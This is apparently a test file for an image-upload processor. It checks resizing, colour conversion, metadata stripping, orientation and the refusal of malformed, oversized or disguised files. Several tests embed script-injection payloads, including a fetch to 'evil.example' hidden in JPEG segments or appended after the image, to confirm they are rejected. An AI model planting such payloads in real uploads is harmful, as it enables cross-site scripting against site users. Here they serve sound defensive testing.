import fc from 'fast-check';
import sharp from 'sharp';
import { describe, expect, test } from 'vitest';
import {
  type ImageRefusal,
  imagePresets,
  imageRefusalOf,
  maxImageBytes,
  storedImageMaxSide,
  uploadKinds,
} from '#domain/pictures.ts';

import { processPicture } from '#functions/images/process-picture.ts';
import { encodings, flatPng, photo, pixel, redAndBlue, withSegment } from './pictures.ts';

const few = ['adminSmall'] as const;

async function refusal(
  bytes: Buffer,
  declared?: string,
): Promise<ImageRefusal | null | 'accepted'> {
  return processPicture(bytes, few, declared).then(
    () => 'accepted' as const,
    (error: unknown) => imageRefusalOf(error),
  );
}

describe('an uploaded picture', () => {
  test.each(['image/jpeg', 'image/png', 'image/webp'] as const)(
    'of %s is stored as a JPEG of its size',
    async (type) => {
      const { stored } = await processPicture(await encodings[type](photo()), few, type);
      expect(stored).toMatchObject({ contentType: 'image/jpeg', width: 320, height: 240 });
      expect(await sharp(stored.bytes).metadata()).toMatchObject({
        format: 'jpeg',
        width: 320,
        height: 240,
        space: 'srgb',
      });
    },
  );

  test.each(Object.keys(uploadKinds) as (keyof typeof uploadKinds)[])(
    'for %s gets every preset of its kind at exactly its pixels, even when it is smaller than they are',
    async (kind) => {
      const wanted = uploadKinds[kind].presets;
      const { presets } = await processPicture(
        await encodings['image/jpeg'](photo(400, 500)),
        wanted,
      );
      expect(presets).toHaveLength(wanted.length * 2);
      for (const { preset, density, format, bytes } of presets) {
        expect(await sharp(bytes).metadata()).toMatchObject({
          format,
          width: imagePresets[preset].width * density,
          height: imagePresets[preset].height * density,
        });
      }
    },
  );

  test('wider than the gallery needs is stored with its longest side at the limit', async () => {
    const { stored } = await processPicture(await encodings['image/jpeg'](photo(2600, 1300)), few);
    expect([stored.width, stored.height]).toEqual([storedImageMaxSide, storedImageMaxSide / 2]);
  });

  test('may be 320 × 200 pixels, and of any shape from there', async () => {
    const least = await processPicture(await encodings['image/png'](photo(320, 200)), few);
    expect([least.stored.width, least.stored.height]).toEqual([320, 200]);
    const strip = await processPicture(await encodings['image/png'](photo(5000, 200)), few);
    expect([strip.stored.width, strip.stored.height]).toEqual([storedImageMaxSide, 80]);
  });

  test('is stored uncropped on white when it is a floor plan', async () => {
    const bytes = await encodings['image/png'](await redAndBlue(1600, 400));
    const [plan] = (await processPicture(bytes, ['plan'])).presets;
    const whole = plan?.bytes ?? Buffer.alloc(0);
    expect((await pixel(whole, 4, 200))[0]).toBeGreaterThan(200);
    expect((await pixel(whole, 795, 200))[2]).toBeGreaterThan(200);
    expect(Math.min(...(await pixel(whole, 400, 40)))).toBeGreaterThan(240);
  });

  test('is cropped around its middle', async () => {
    const bytes = await encodings['image/png'](await redAndBlue(1600, 200));
    const [preset] = (await processPicture(bytes, few)).presets;
    const crop = preset?.bytes ?? Buffer.alloc(0);
    expect((await pixel(crop, 4, 24))[0]).toBeGreaterThan(200);
    expect((await pixel(crop, 43, 24))[2]).toBeGreaterThan(200);
  });

  test('with transparency lies on white', async () => {
    const clear = sharp({
      create: { width: 320, height: 200, channels: 4, background: { r: 0, g: 0, b: 0, alpha: 0 } },
    });
    const { stored, presets } = await processPicture(await clear.png().toBuffer(), few);
    expect(await pixel(stored.bytes, 10, 10)).toEqual([255, 255, 255]);
    expect(await pixel(presets[0]?.bytes ?? Buffer.alloc(0), 10, 10)).toEqual([255, 255, 255]);
  });

  test.each([
    ['16-bit', () => photo().toColourspace('rgb16').png().toBuffer()],
    ['grey', () => photo().greyscale().jpeg().toBuffer()],
    ['CMYK', () => photo().toColourspace('cmyk').jpeg().toBuffer()],
    ['palette', () => photo().png({ palette: true }).toBuffer()],
    ['wide gamut', () => photo().withIccProfile('p3').jpeg().toBuffer()],
  ])('in %s becomes 8-bit sRGB without a profile', async (_name, make) => {
    const { stored, presets } = await processPicture(await make(), few);
    for (const bytes of [stored.bytes, ...presets.map((preset) => preset.bytes)]) {
      const metadata = await sharp(bytes).metadata();
      expect(metadata).toMatchObject({ space: 'srgb', channels: 3, depth: 'uchar' });
      expect(metadata.icc).toBeUndefined();
    }
  });

  test('loses its position, camera and all other metadata', async () => {
    const bytes = await photo()
      .withExif({
        IFD0: { Make: 'Secret Camera' },
        IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '41/1 38/1 0/1' },
      })
      .withXmp('<x:xmpmeta xmlns:x="adobe:ns:meta/"><note>kept at home</note></x:xmpmeta>')
      .jpeg()
      .toBuffer();
    expect((await sharp(bytes).metadata()).exif?.includes('Secret Camera')).toBe(true);
    const { stored, presets } = await processPicture(withSegment(bytes, 0xfe, 'a comment'), few);
    for (const made of [stored.bytes, ...presets.map((preset) => preset.bytes)]) {
      const metadata = await sharp(made).metadata();
      expect([metadata.exif, metadata.xmp, metadata.iptc, metadata.comments]).toEqual([
        undefined,
        undefined,
        undefined,
        undefined,
      ]);
      expect(made.includes('Secret')).toBe(false);
    }
  });

  test.each([
    [3, 'left', 'blue'],
    [6, 'top', 'red'],
    [8, 'top', 'blue'],
  ] as const)(
    'of EXIF orientation %i is stored upright, its %s %s',
    async (orientation, side, colour) => {
      const bytes = await (await redAndBlue(600, 400))
        .withMetadata({ orientation })
        .jpeg()
        .toBuffer();
      const { stored } = await processPicture(bytes, few);
      expect([stored.width, stored.height]).toEqual(side === 'top' ? [400, 600] : [600, 400]);
      const [red, , blue] = await pixel(stored.bytes, 10, 10);
      expect(colour === 'red' ? red : blue).toBeGreaterThan(200);
      expect(colour === 'red' ? blue : red).toBeLessThan(60);
    },
  );

  test('followed by a second picture in the same file, as phones write them, is taken alone', async () => {
    const jpeg = await encodings['image/jpeg'](photo());
    const other = await encodings['image/jpeg'](await redAndBlue(100, 100));
    const alone = await processPicture(jpeg, few);
    expect(
      (await processPicture(Buffer.concat([jpeg, other]), few)).stored.bytes.equals(
        alone.stored.bytes,
      ),
    ).toBe(true);
  });
});

describe('the processing refuses', () => {
  test.each(['image/jpeg', 'image/png', 'image/webp'] as const)(
    'a %s that ends early, wherever it is cut',
    async (type) => {
      const whole = await encodings[type](photo(96, 64));
      await fc.assert(
        fc.asyncProperty(fc.integer({ min: 0, max: whole.length - 1 }), async (length) => {
          expect(await refusal(whole.subarray(0, length))).toBeOneOf(['truncated', 'notAnImage']);
        }),
        { numRuns: 150, examples: [[0], [1], [whole.length - 1], [whole.length - 2]] },
      );
    },
  );

  test('a progressive JPEG that ends early', async () => {
    const whole = await photo().jpeg({ progressive: true }).toBuffer();
    for (const part of [0.3, 0.6, 0.9, 0.99]) {
      expect(await refusal(whole.subarray(0, Math.floor(whole.length * part)))).toBe('truncated');
    }
    expect(await refusal(whole)).toBe('accepted');
  });

  test('a PNG whose pixels are damaged', async () => {
    const bytes = Buffer.from(await encodings['image/png'](photo()));
    bytes.fill(0xaa, bytes.length / 2, bytes.length / 2 + 200);
    expect(await refusal(bytes)).toBe('truncated');
  });

  test('bytes that are no picture, always with a reason that staff can read', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom('', '\xff\xd8\xff', '\x89PNG\r\n\x1a\n', 'RIFF\x10\0\0\0WEBPVP8 '),
        fc.uint8Array({ maxLength: 300 }),
        async (magic, rest) => {
          expect(await refusal(Buffer.concat([Buffer.from(magic, 'latin1'), rest]))).toBeOneOf([
            'truncated',
            'notAnImage',
            'animated',
          ]);
        },
      ),
      { numRuns: 200 },
    );
  });

  test.each([
    ['an empty file', Buffer.alloc(0)],
    [
      'a drawing in SVG',
      Buffer.from(
        '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><rect width="9" height="9"/></svg>',
      ),
    ],
    ['a page', Buffer.from('<!doctype html><script>alert(1)</script>')],
    ['a PDF', Buffer.from('%PDF-1.7\n')],
  ])('%s, whatever its file is called', async (_name, bytes) => {
    expect(await refusal(bytes, 'image/png')).toBe('notAnImage');
  });

  test('a GIF, an AVIF and a TIFF', async () => {
    expect(await refusal(await photo().gif().toBuffer(), 'image/png')).toBe('notAnImage');
    expect(await refusal(await photo(64, 64).avif({ effort: 0 }).toBuffer(), 'image/webp')).toBe(
      'notAnImage',
    );
    expect(await refusal(await photo().tiff().toBuffer(), 'image/jpeg')).toBe('notAnImage');
  });

  test('a picture of another type than declared', async () => {
    expect(await refusal(await encodings['image/png'](photo()), 'image/jpeg')).toBe('typeMismatch');
    expect(await refusal(await encodings['image/webp'](photo()), 'image/png')).toBe('typeMismatch');
  });

  const script = '<script>fetch("//evil.example")</script>';
  test.each([
    ['in a comment', (jpeg: Buffer) => withSegment(jpeg, 0xfe, script)],
    [
      'in an application segment',
      (jpeg: Buffer) => withSegment(jpeg, 0xed, `<HTML><body onload=x>${script}`),
    ],
    ['after its end', (jpeg: Buffer) => Buffer.concat([jpeg, Buffer.from(script.toUpperCase())])],
    [
      'as a drawing after its end',
      (jpeg: Buffer) => Buffer.concat([jpeg, Buffer.from('<svg onload="x">')]),
    ],
  ])('a JPEG with a page hidden %s', async (_name, hide) => {
    const jpeg = await encodings['image/jpeg'](photo());
    expect(await refusal(hide(jpeg), 'image/jpeg')).toBe('notAnImage');
    expect(await refusal(jpeg, 'image/jpeg')).toBe('accepted');
  });

  test('an animated WebP and an animated PNG', async () => {
    const frames = await photo(40, 80).raw().toBuffer();
    const animated = await sharp(frames, {
      raw: { width: 40, height: 80, channels: 3, pageHeight: 40 },
    })
      .webp({ loop: 0 })
      .toBuffer();
    expect((await sharp(animated).metadata()).pages).toBe(2);
    expect(await refusal(animated, 'image/webp')).toBe('animated');
    const png = await encodings['image/png'](photo());
    const control = Buffer.concat([
      Buffer.from([0, 0, 0, 8]),
      Buffer.from('acTL'),
      Buffer.alloc(12),
    ]);
    expect(
      await refusal(Buffer.concat([png.subarray(0, 33), control, png.subarray(33)]), 'image/png'),
    ).toBe('animated');
  });

  test('more than fifty megapixels, however small the file', async () => {
    const tooMany = flatPng(10_001, 5_000);
    expect(tooMany.length).toBeLessThan(maxImageBytes);
    expect(await refusal(tooMany, 'image/png')).toBe('tooManyPixels');
    expect(await refusal(flatPng(10_000, 5_000), 'image/png')).toBe('accepted');
  });

  test.each([
    ['narrower than 320 pixels', 319, 900],
    ['lower than 200 pixels', 900, 199],
    ['of one pixel', 1, 1],
  ])('a picture %s', async (_what, width, height) => {
    expect(await refusal(await encodings['image/jpeg'](photo(width, height)))).toBe('tooSmall');
  });

  test('a picture that is too narrow after its rotation', async () => {
    const turned = (orientation: number) =>
      photo(320, 200).withMetadata({ orientation }).jpeg().toBuffer();
    expect(await refusal(await turned(1))).toBe('accepted');
    expect(await refusal(await turned(6))).toBe('tooSmall');
  });

  test('a header that claims a size larger than any memory', async () => {
    const png = Buffer.from(await encodings['image/png'](photo()));
    png.writeUInt32BE(0x7fffffff, 16);
    expect(await refusal(png)).toBeOneOf(['tooManyPixels', 'truncated']);
  });

  test('a file of one byte more than five megabytes, before anything is decoded', async () => {
    expect(await refusal(Buffer.alloc(maxImageBytes + 1))).toBe('tooLarge');
  });
});
